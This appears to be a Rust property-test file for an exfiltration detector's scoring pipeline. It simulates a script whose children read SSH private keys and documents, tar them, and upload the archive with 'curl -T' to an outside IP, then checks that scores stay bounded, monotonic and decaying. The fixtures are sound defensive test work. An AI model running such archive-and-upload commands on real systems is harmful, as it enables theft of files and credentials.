//! What holds of scores whatever happens, stated of generated stories.

use std::collections::HashSet;

use proptest::prelude::*;

use super::{OUTSIDE, Scene};
use crate::{
    alert::{Action, Body},
    config::Config,
    event::{Event, ProcessKey},
    pipeline::Pipeline,
    seeds::seeded,
};

/// The root of the story, a script, and its children.
const ROOT: u32 = 100;
const CHILDREN: [u32; 4] = [101, 102, 103, 104];
const TOOLS: [&[&str]; 4] = [
    &["/usr/bin/tar", "tar", "-czf", "/var/tmp/a.tgz", "/srv/docs"],
    &["/usr/bin/curl", "curl", "-T", "/var/tmp/a.tgz", "http://198.51.100.2/"],
    &["/usr/bin/base64", "base64"],
    &["/opt/own-sender", "own-sender"],
];

/// What a child does.
#[derive(Clone, Copy, Debug)]
enum Deed {
    Document(usize, u64),
    Key(usize, u64),
    Staged(usize, u64),
    Stages(usize, u64),
    Archive(usize),
    Sends(usize, u64, u64),
}

fn any_deed() -> impl Strategy<Value = Deed> {
    let who = 0..CHILDREN.len();
    prop_oneof![
        6 => (who.clone(), 0..60_u64).prop_map(|(who, file)| Deed::Document(who, file)),
        1 => (who.clone(), 0..4_u64).prop_map(|(who, file)| Deed::Key(who, file)),
        1 => (who.clone(), 0..4_u64).prop_map(|(who, file)| Deed::Staged(who, file)),
        1 => (who.clone(), 0..4_u64).prop_map(|(who, file)| Deed::Stages(who, file)),
        1 => who.clone().prop_map(Deed::Archive),
        3 => (who, 0..1_000_u64, prop_oneof![100..100_000_u64, 100_000..20_000_000_u64])
            .prop_map(|(who, socket, bytes)| Deed::Sends(who, socket, bytes)),
    ]
}

fn begin() -> Scene {
    let mut scene = Scene::new();
    scene.spawn(10, ROOT, "/bin/dash", &["sh", "/root/x.sh"]);
    for (&pid, tool) in CHILDREN.iter().zip(TOOLS) {
        scene.spawn(ROOT, pid, tool[0], &tool[1..]);
    }
    scene
}

fn tell(scene: &mut Scene, deed: Deed, number: u64) {
    match deed {
        Deed::Document(who, file) => {
            scene.read(CHILDREN[who], 1_000 + file, &format!("/srv/docs/{file}.pdf"), 200_000);
        }
        Deed::Key(who, file) => {
            scene.read(CHILDREN[who], 2_000 + file, &format!("/home/{file}/.ssh/id_rsa"), 2_600);
        }
        Deed::Staged(who, file) => {
            scene.read(CHILDREN[who], 3_000 + file, &format!("/var/tmp/in-{file}"), 70_000);
        }
        Deed::Stages(who, file) => scene.write(CHILDREN[who], 4_000 + file, &format!("/var/tmp/out-{file}")),
        Deed::Archive(who) => scene.read(CHILDREN[who], 4_000, "/var/tmp/out-0", 6_000_000),
        // A socket is one process's.
        Deed::Sends(who, socket, bytes) => {
            scene.sent(CHILDREN[who], (number * 1_000 + socket) * 4 + who as u64, OUTSIDE, bytes);
        }
    }
}

fn key(pid: u32) -> ProcessKey {
    ProcessKey { pid, start_ticks: u64::from(pid) }
}

fn feed(pipeline: &mut Pipeline, events: &[Event]) {
    let mut out = Vec::new();
    for event in events {
        pipeline.step(event, &mut out);
    }
}

/// The score of each process of the story, as of now.
fn scores(pipeline: &mut Pipeline) -> Vec<f64> {
    let mut out = Vec::new();
    CHILDREN.iter().map(|&pid| pipeline.judge(key(pid), &mut out).score).collect()
}

/// Scores at the end of a scene.
fn scores_after(scene: &Scene) -> Vec<f64> {
    let mut pipeline = Pipeline::new(Config::default());
    feed(&mut pipeline, &scene.events);
    scores(&mut pipeline)
}

/// Scores after deeds that are all done at one instant.
fn scores_at_once(deeds: &[Deed]) -> Vec<f64> {
    let mut scene = begin();
    scene.hold();
    for &deed in deeds {
        tell(&mut scene, deed, 0);
    }
    scene.wait(3);
    scene.tick();
    scores_after(&scene)
}

fn deeds() -> impl Strategy<Value = Vec<Deed>> {
    prop::collection::vec(any_deed(), 1..60)
}

/// A list, and the same list in another order.
fn shuffled() -> impl Strategy<Value = (Vec<Deed>, Vec<Deed>)> {
    // What a file holds depends on what its writer had read when somebody reads it, and the volume of a story is told of
    // the process that made it full: neither is a window.
    let holds = |deed: &Deed| match deed {
        Deed::Archive(_) => false,
        Deed::Sends(_, _, bytes) => *bytes < 80_000,
        Deed::Document(..) | Deed::Key(..) | Deed::Staged(..) | Deed::Stages(..) => true,
    };
    let deeds = deeds().prop_map(move |deeds| deeds.into_iter().filter(holds).collect());
    deeds.prop_flat_map(|deeds: Vec<Deed>| (Just(deeds.clone()), Just(deeds).prop_shuffle()))
}

#[test]
fn who_of_a_story_read_the_last_document_does_not_matter() {
    use Deed::{Document, Key, Sends};
    let sent = [Key(0, 0), Sends(0, 0, 20_124), Sends(3, 0, 79_876)];
    let with = |documents: &[(usize, u64)]| {
        let documents = documents.iter().map(|&(who, file)| Document(who, file));
        scores_at_once(&sent.into_iter().chain(documents).collect::<Vec<_>>())
    };
    // Each with a file or a process that makes the eighth document the first, the last, one's own or shared.
    let rows: [[&[(usize, u64)]; 2]; 3] = [
        [
            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (3, 6), (0, 7)],
            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 7), (3, 6)],
        ],
        [
            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7), (3, 8)],
            &[(3, 8), (0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7)],
        ],
        [
            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7), (3, 0)],
            &[(3, 0), (0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7)],
        ],
    ];
    for [one, other] in rows {
        let scores = [with(one), with(other)];
        for (one, other) in scores[0].iter().zip(&scores[1]) {
            assert!((one - other).abs() < 1e-9, "{scores:?}");
        }
    }
}

#[test]
fn what_a_story_read_goes_with_its_data_whoever_read_the_last_document() {
    // The second child writes a file that a command of another story reads.
    let orders: [[(u32, u64); 8]; 2] = [
        [(102, 0), (101, 1), (101, 2), (101, 3), (101, 4), (101, 5), (101, 6), (101, 7)],
        [(101, 1), (101, 2), (101, 3), (101, 4), (101, 5), (101, 6), (101, 7), (102, 0)],
    ];
    let scores = orders.map(|documents| {
        let mut scene = begin();
        scene.hold();
        for (reader, file) in documents {
            scene.read(reader, 1_000 + file, &format!("/srv/docs/{file}.pdf"), 200_000);
        }
        scene.write(102, 5_000, "/root/list");
        scene.spawn(10, 300, "/usr/bin/curl", &["curl", "-T", "/root/list", "http://198.51.100.2/"]);
        scene.read(300, 5_000, "/root/list", 200_000);
        let mut pipeline = Pipeline::new(Config::default());
        feed(&mut pipeline, &scene.events);
        let verdict = pipeline.judge(key(300), &mut Vec::new());
        assert!(verdict.signals.iter().any(|weighted| weighted.signal.object.is_shared()), "{verdict:?}");
        verdict.score
    });
    assert!((scores[0] - scores[1]).abs() < 1e-9, "{scores:?}");
}

proptest! {
    #![proptest_config(seeded(64))]

    #[test]
    fn scores_are_bounded_and_each_event_at_most_raises_them(deeds in deeds(), more in deeds()) {
        let mut scene = begin();
        for (deed, number) in deeds.iter().zip(0..) {
            tell(&mut scene, *deed, number);
        }
        // Senders have settled: what sizes prove is known.
        scene.wait(3);
        scene.tick();
        scene.hold();
        let mut pipeline = Pipeline::new(Config::default());
        feed(&mut pipeline, &scene.events);
        let mut before = scores(&mut pipeline);
        for (deed, number) in more.iter().zip(1_000..) {
            let known = scene.events.len();
            tell(&mut scene, *deed, number);
            feed(&mut pipeline, &scene.events[known..]);
            let after = scores(&mut pipeline);
            for (before, after) in before.iter().zip(&after) {
                prop_assert!((0.0..=10.0).contains(after));
                prop_assert!(*after >= before - 1e-9, "{deed:?} lowers {before} to {after}");
            }
            before = after;
        }
    }

    #[test]
    fn time_alone_lowers_scores(deeds in deeds(), waits in prop::collection::vec(1..2_000_u64, 1..6)) {
        let mut scene = begin();
        for (deed, number) in deeds.iter().zip(0..) {
            tell(&mut scene, *deed, number);
        }
        scene.wait(3);
        scene.tick();
        let mut pipeline = Pipeline::new(Config::default());
        feed(&mut pipeline, &scene.events);
        let mut before = scores(&mut pipeline);
        for wait in waits {
            let known = scene.events.len();
            scene.wait(wait);
            scene.tick();
            feed(&mut pipeline, &scene.events[known..]);
            let after = scores(&mut pipeline);
            for (before, after) in before.iter().zip(&after) {
                prop_assert!(*after <= before + 1e-9, "{before} rises to {after}");
            }
            before = after;
        }
    }

    #[test]
    fn order_within_a_window_does_not_matter((deeds, shuffled) in shuffled()) {
        let scores = [deeds, shuffled].map(|deeds| scores_at_once(&deeds));
        for (one, other) in scores[0].iter().zip(&scores[1]) {
            prop_assert!((one - other).abs() < 1e-9, "{scores:?}");
        }
    }

    #[test]
    fn a_story_is_one_alert(deeds in deeds()) {
        let mut scene = begin();
        for (deed, number) in deeds.iter().zip(0..) {
            tell(&mut scene, *deed, number);
        }
        scene.stop();
        let mut pipeline = Pipeline::new(Config::default());
        let (mut out, mut opened) = (Vec::new(), HashSet::new());
        for event in &scene.events {
            pipeline.step(event, &mut out);
        }
        for record in out {
            if let Body::Alert(alert) = record.body
                && alert.action == Action::Opened
            {
                opened.insert(alert.id.clone());
            }
        }
        prop_assert!(opened.len() <= 1, "{opened:?}");
    }
}
